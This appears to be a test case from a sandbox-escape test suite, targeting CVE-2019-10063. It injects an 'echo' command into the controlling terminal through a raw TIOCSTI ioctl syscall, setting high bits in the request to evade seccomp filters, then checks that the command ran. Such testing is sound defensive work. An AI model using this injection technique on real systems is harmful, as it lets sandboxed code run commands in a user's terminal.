"""
id: f-tiocsti-high-bits
class: f
title: type into the terminal with a request whose upper half is not zero
source: CVE-2019-10063: filters that compare 64 bits
launch: pty
"""
from esc import *


def attack(x):
    for byte in ("echo %s\n" % x.token).encode():
        buffer = ctypes.create_string_buffer(bytes([byte]))
        for high in (1 << 32, 0xdeadbeef << 32, 0xffffffff << 32):
            value = 0x5412 | high
            if libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_ulong(value), buffer) == 0:
                break


def verdict(x):
    return x.landed(os.path.join(x.state, "typed"))


main(globals())
